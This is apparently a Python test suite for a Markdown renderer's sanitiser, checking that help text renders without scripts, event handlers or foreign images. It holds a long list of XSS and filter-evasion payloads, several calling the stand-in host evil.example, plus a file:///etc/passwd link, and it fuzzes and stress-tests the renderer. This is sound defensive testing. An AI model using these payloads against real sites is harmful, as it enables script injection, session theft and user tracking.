"""Hostile Markdown: whatever is written, what is sent holds no script, no handler, no foreign picture."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from contactcodes.contacts.help.checked import LONGEST_TEXT, text_problems
from contactcodes.contacts.help.parsed import cleaned
from contactcodes.contacts.help.rendered import Picture, render
from contactcodes.contacts.help.search import searched_words

CAP = {"0123456789abcdef": Picture("/help-image/1/0123456789abcdef.webp", 3, 2)}
TAGS = {
    *("p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "a", "img", "strong", "em", "s", "code", "pre"),
    *("blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "details", "summary", "div"),
}
ATTRIBUTES = {
    *(
        "href",
        "rel",
        "src",
        "alt",
        "width",
        "height",
        "loading",
        "start",
        "open",
        "class",
        "role",
        "tabindex",
    ),
    "aria-label",
}
# After the lists of OWASP (XSS Filter Evasion), markdown-it's own tests and what renderers fell for.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='x' onclick=alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=https://evil.example><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='//evil.example/x.swf'>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/x)",
    "[x](/studio/sign-out)",
    "[x](\\\\evil.example\\x)",
    "[x](https:\\\\evil.example)",
    "[x](https://user:pass@evil.example/)",
    "[x](https://pаypal.com/)",
    "[x](mailto:a@b.fr%0ABcc:c@d.fr <x>)",
    "[x](tel:<script>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example 'x\" onclick=\"alert(1)')",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](image:../../studio/sign-out)",
    '![x" onerror="alert(1)](image:0123456789abcdef)',
    "![x](image:0123456789abcdef 'x\" onerror=\"alert(1)')",
    "[![x](https://evil.example/p.gif)](javascript:alert(1))",
    "## <img src=x onerror=alert(1)>?\n\n<script>alert(1)</script>",
    "## [x](javascript:alert(1))?\n\nx",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "```html\"onload=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|:-:|\n| [x](javascript:alert(1)) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<table><div class='table' tabindex=0 role=group>x</table>",
    "<div class=\"answer\" role=\"button\" tabindex=\"1\">",
    "\u202e[x](https://a.example)\u202c<script\u2028>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]  # fmt: skip


class Seen(HTMLParser):
    """What a browser would make of HTML: its elements with their attributes, and its words."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.depth = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self.depth += tag not in {"img", "br", "hr"}

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002
        self.depth -= 1


def harm_in(page: str) -> list[str]:
    """Return what a page holds that it may not."""
    seen = Seen(page)
    harm = [f"<{tag}>" for tag, _a in seen.elements if tag not in TAGS]
    for tag, attributes in seen.elements:
        harm += [f"{tag} {name}" for name in attributes if name not in ATTRIBUTES]
        link = attributes.get("href", "https://")
        if not link.startswith(("https://", "http://", "mailto:", "tel:")) or "@evil" in link:
            harm.append(f"href {link}")
        if not attributes.get("src", "/help-image/1/").startswith("/help-image/1/"):
            harm.append(f"src {attributes['src']}")
        if tag == "div" and attributes.get("role", "group") != "group":
            harm.append("role")
    return harm + ["left open"] * (seen.depth != 0)


def test_what_looks_for_harm_finds_it() -> None:
    assert harm_in("<script>") == ["<script>", "left open"]
    assert harm_in('<p onclick="x"></p><a href="javascript:x"></a><img src="//evil.example">') == [
        "p onclick",
        "href javascript:x",
        "src //evil.example",
    ]


@pytest.mark.parametrize(
    "around", ["%s", "text %s text", "> - %s", "## Why?\n\n%s\n", "| a |\n|---|\n| %s |\n"]
)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_or_asks_another_host_is_sent(payload: str, around: str) -> None:
    for text in (around % payload, cleaned(around % payload)):
        assert harm_in(render(text, CAP).html) == []
        assert harm_in(render(text, CAP, ("x",)).html) == []


@pytest.mark.parametrize("payload", [one for one in PAYLOADS if one.startswith(("[x](", "![x](", "<"))])
def test_hostile_text_is_refused_at_entry_unless_it_came_to_be_harmless_words(payload: str) -> None:
    harmless = (
        "https://a.example",
        "image:0123456789abcdef",
        "java\tscript",
        "\x01",
        "b.fr%0A",
        "tel:<",
        "<scr\x00",
        "<svg/",
    )
    problems = text_problems(cleaned(payload), CAP)
    assert problems or any(words in payload for words in harmless)


PIECES = st.sampled_from(
    [
        *(
            "<",
            ">",
            "[",
            "]",
            "(",
            ")",
            "!",
            "`",
            "```",
            "*",
            "_",
            "~~",
            "|",
            "---",
            "\n",
            "\n\n",
            "#",
            "## ",
            "?",
        ),
        *(
            "> ",
            "- ",
            "1. ",
            "    ",
            "\t",
            "&",
            "&#x6a;",
            "javascript:",
            "https://",
            "image:0123456789abcdef",
        ),
        *(
            "<script>",
            "</script>",
            "<img src=x onerror=1>",
            "](",
            "![",
            "\\",
            '"',
            "'",
            "=",
            ":",
            "\x00",
            "\ufffd",
        ),
        *("a", "é", "س", "<details>", "</div>", "<!--", "-->", "<table>", "</table>", "\u202e", "\ud800"),
    ]
)


@given(st.lists(PIECES | st.text(max_size=8), max_size=60).map("".join))
def test_any_text_renders_and_nothing_harmful_comes_of_it(text: str) -> None:
    text = cleaned(text)
    text_problems(text, CAP)
    assert harm_in(render(text, CAP).html) == []
    assert harm_in(render(text, CAP, searched_words("a")).html) == []


@pytest.mark.parametrize(
    "piece",
    [
        "> ",
        "- ",
        "[",
        "![a](",
        "*a ",
        "_*",
        "`",
        "|a",
        "&#x41;",
        "<a",
        "<b",
        "[a](<b",
        "a?\n=\n",
        "# ?\n",
        "[a]: x\n",
        "1. ",
    ],
)
def test_a_bomb_of_depth_or_repetition_goes_off_in_no_time(piece: str) -> None:
    text = (piece * LONGEST_TEXT)[:LONGEST_TEXT]
    began = time.process_time()
    text_problems(text, CAP)
    assert harm_in(render(text, CAP).html) == []
    assert time.process_time() - began < 10  # seconds, on a machine that is busy; about one is usual
